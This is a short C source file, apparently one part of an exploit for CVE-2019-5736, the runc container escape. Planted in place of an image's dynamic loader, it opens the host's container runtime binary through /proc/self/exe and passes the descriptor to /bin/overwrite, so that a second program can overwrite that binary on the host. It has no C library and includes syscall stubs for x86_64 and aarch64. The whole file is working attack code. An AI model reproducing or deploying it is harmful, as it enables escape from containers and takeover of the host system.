/* Put where an image has its dynamic loader. Whoever executes the host's interpreter in that container
 * (`#!/proc/self/exe`) runs this in its place, and /proc/self/exe is the host's file: it is opened, so that another
 * program can go on to write to it when nobody runs it any more (CVE-2019-5736). No C library: this is the loader. */
#include <asm/unistd.h>

typedef unsigned long word;

#if defined(__x86_64__)
static word call(word number, word a, word b, word c, word d) {
    word result;
    register word r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start:\n and $-16, %rsp\n call begin\n");
#elif defined(__aarch64__)
static word call(word number, word a, word b, word c, word d) {
    register word x8 __asm__("x8") = number;
    register word x0 __asm__("x0") = a;
    register word x1 __asm__("x1") = b;
    register word x2 __asm__("x2") = c;
    register word x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
__asm__(".globl _start\n_start:\n bl begin\n");
#endif

__attribute__((used, noreturn)) void begin(void) {
    char number[3], name[] = "overwrite", program[] = "/bin/overwrite", path[] = "/proc/self/exe";
    word fd = call(__NR_openat, (word)-100, (word)path, 010000000 /* O_PATH */, 0);
    number[0] = (char)('0' + fd / 10);
    number[1] = (char)('0' + fd % 10);
    number[2] = 0;
    char *arguments[] = {name, number, 0};
    call(__NR_execve, (word)program, (word)arguments, 0, 0);
    call(__NR_exit_group, 99, 0, 0, 0);
    for (;;) { }
}
